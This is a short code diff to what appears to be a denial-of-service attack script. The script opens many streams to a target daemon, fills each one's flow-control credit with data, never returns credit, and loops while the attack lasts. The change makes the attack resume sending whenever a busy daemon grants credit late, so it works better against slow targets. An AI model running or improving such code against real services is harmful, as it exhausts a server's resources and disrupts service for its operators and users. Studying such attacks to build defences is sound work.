@@ -42,20 +42,29 @@ def source(number):
 
 
 def fill(near):
-    """Opens every stream, sends until the credit of each is gone, and gives none."""
+    """Opens every stream, sends until the credit of each is gone, and gives none. Returns the streams."""
     streams = []
     for _ in range(STREAMS):
         stream = near.adopt(near.next_id())
         near.send(Frame(DATA, SYN, stream.id, len(ASKED), ASKED))
         stream.credit -= len(ASKED)
         streams.append(stream)
+    feed(near, streams)
+    return streams
+
+
+def has_credit(streams):
+    return any(stream.credit > 0 and not stream.is_reset for stream in streams)
+
+
+def feed(near, streams):
+    """Sends for as long as there is credit."""
     while open_streams := [stream for stream in streams if stream.credit > 0 and not stream.is_reset]:
         for stream in open_streams:
             size = min(stream.credit, len(PIECE))
             near.send(data_frame(stream.id, PIECE[:size]))
             stream.credit -= size
-        near.pump(lambda: any(stream.credit > 0 for stream in streams), 0.2)
-    return near
+        near.pump(lambda: has_credit(streams), 0.2)
 
 
 def attack_over_tcp(endpoint, number, until):
@@ -65,9 +74,11 @@ def attack_over_tcp(endpoint, number, until):
         try:
             near = session(endpoint, key, source=source(number))
             with near.link:
-                fill(near)
+                streams = fill(near)
                 while not until.is_over:
-                    near.pump(lambda: until.is_over, 0.2)
+                    # A busy daemon gives credit late.
+                    near.pump(lambda: until.is_over or has_credit(streams), 0.2)
+                    feed(near, streams)
         except (Ended, OSError, TimeoutError, AssertionError):
             time.sleep(0.2)
 
